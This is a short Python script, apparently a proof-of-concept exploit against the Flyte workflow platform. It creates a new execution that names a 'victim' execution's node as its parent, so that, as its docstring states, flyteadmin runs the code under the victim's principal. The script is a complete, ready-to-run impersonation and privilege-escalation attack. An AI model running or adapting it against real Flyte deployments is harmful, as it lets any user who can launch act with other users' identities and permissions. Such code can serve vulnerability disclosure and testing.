"""
Launches `acts_for_you.main` so that it looks like a child of somebody else's execution, whose name is the argument.

Anybody who may launch at all can do this: flyteadmin takes the principal of the parent that the request names. Prints
the name of the execution.
"""

from __future__ import annotations

import secrets
import sys

from flyteidl.admin.execution_pb2 import ExecutionCreateRequest, ExecutionSpec
from flytekit.configuration import Config
from flytekit.remote import FlyteRemote


def main(victim: str) -> None:
    """Launch the same as the victim did."""
    remote = FlyteRemote(Config.auto(), default_project="flytesnacks", default_domain="development")
    theirs = remote.fetch_execution(name=victim)
    nodes, _ = remote.client.list_node_executions(theirs.id)
    spec = ExecutionSpec(launch_plan=theirs.spec.launch_plan.to_flyte_idl())
    spec.metadata.parent_node_execution.CopyFrom(nodes[0].id.to_flyte_idl())
    name = f"f{secrets.token_hex(9)}"
    request = ExecutionCreateRequest(project="flytesnacks", domain="development", name=name, spec=spec)
    remote.client._stub.CreateExecution(request)
    sys.stdout.write(name + "\n")


if __name__ == "__main__":
    main(sys.argv[1])
